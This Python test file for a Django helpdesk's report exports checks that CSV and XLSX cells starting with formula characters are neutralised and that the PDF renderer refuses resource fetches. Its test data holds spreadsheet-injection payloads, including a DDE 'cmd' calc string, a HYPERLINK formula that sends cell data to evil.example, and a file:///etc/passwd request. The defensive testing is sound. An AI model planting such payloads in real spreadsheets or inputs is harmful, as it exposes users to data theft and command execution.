import csv
import io
import shutil
import subprocess

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from podpora.reports.exports import Table, csv_bytes, neutralise, xlsx_bytes
from tests.conftest import ARTIFACTS, PASSWORD

pytestmark = pytest.mark.django_db

MARCH = {"year": 2026, "month": 3}


@pytest.mark.parametrize(
    "dangerous",
    ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"],
)
def test_formula_like_text_is_neutralised(dangerous):
    assert neutralise(dangerous) == "'" + dangerous


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise(-5) == -5
    assert neutralise(3.5) == 3.5
    assert neutralise("Drukarka") == "Drukarka"
    assert neutralise(None) == ""


def test_csv_and_xlsx_cells_never_start_a_formula():
    table = Table("T", ["subject"], [["=cmd|' /C calc'!A0"], ["@SUM(1)"], [42]])

    rows = list(csv.reader(io.StringIO(csv_bytes([table]).decode("utf-8-sig"))))
    assert rows[2] == ["'=cmd|' /C calc'!A0"]
    assert rows[3] == ["'@SUM(1)"]

    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).active
    values = [c.value for c in sheet["A"]]
    assert values == ["subject", "'=cmd|' /C calc'!A0", "'@SUM(1)", 42]
    assert all(c.data_type != "f" for c in sheet["A"])


def test_a_control_character_stored_before_cleaning_does_not_break_the_xlsx():
    table = Table("T", ["subject"], [["Faktura\x0bnr\x1f 12"], ["zwykły"]])
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table]))).active
    assert [c.value for c in sheet["A"]] == ["subject", "Fakturanr 12", "zwykły"]


@pytest.fixture
def evil_ticket(clock, adam, open_ticket_for):
    from tests.reports.conftest import at

    clock.set(at(10, 10))
    return open_ticket_for(adam, '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")')


def test_organisation_csv_neutralises_a_customers_formula(
    client, anna, org_a, evil_ticket
):
    client.login(email=anna.email, password=PASSWORD)

    response = client.get(
        reverse(
            "reports:organization_download",
            kwargs={"org_id": org_a.pk, **MARCH, "file_format": "csv"},
        )
    )

    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert not any(
        cell.startswith("=") for row in csv.reader(io.StringIO(body)) for cell in row
    )


def test_dashboard_xlsx_has_summary_trend_time_spent_and_tickets(
    client, sylwia, fortnight, evil_ticket
):
    client.login(email=sylwia.email, password=PASSWORD)

    response = client.get(
        reverse("reports:export", args=["xlsx"]),
        {"start": "2026-03-02", "end": "2026-03-13"},
    )

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Summary", "Trend", "Time spent", "Tickets"]
    tickets = list(workbook["Tickets"].values)
    assert len(tickets) == 1 + 6
    subjects = [row[1] for row in tickets[1:]]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Kliknij")' in subjects
    summary = {row[0]: row[1] for row in workbook["Summary"].values}
    assert summary["Tickets created"] == 6
    assert list(workbook["Time spent"].values)[:2] == [
        ("By", "Name", "Minutes", "Hours"),
        ("Total", None, 0, 0),
    ]


def test_organisation_report_downloads_as_a_pdf_with_polish_letters(
    client, sylwia, org_a, fortnight
):
    client.login(email=sylwia.email, password=PASSWORD)

    response = client.get(
        reverse(
            "reports:organization_download",
            kwargs={"org_id": org_a.pk, **MARCH, "file_format": "pdf"},
        )
    )

    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "reports-organisation-a.pdf").write_bytes(response.content)
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-", "-"],
            input=response.content,
            capture_output=True,
            check=True,
        ).stdout.decode()
        assert "Kowalski Logistyka sp. z o.o." in text
        assert "Outlook się zawiesza" in text
        assert "Drukarka znowu nie drukuje" in text


def test_czech_pdf_keeps_czech_letters(client, sylwia, org_b, fortnight):
    client.login(email=sylwia.email, password=PASSWORD)

    response = client.get(
        reverse(
            "reports:organization_download",
            kwargs={"org_id": org_b.pk, **MARCH, "file_format": "pdf"},
        ),
        HTTP_ACCEPT_LANGUAGE="cs",
    )

    assert response.content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-", "-"],
            input=response.content,
            capture_output=True,
            check=True,
        ).stdout.decode()
        assert "Novák Strojírny a.s." in text
        assert "VPN nefunguje" in text


def test_pdf_renderer_fetches_nothing(settings):
    from podpora.reports.services import _refuse_fetch

    with pytest.raises(ValueError, match="no resources"):
        _refuse_fetch("file:///etc/passwd")
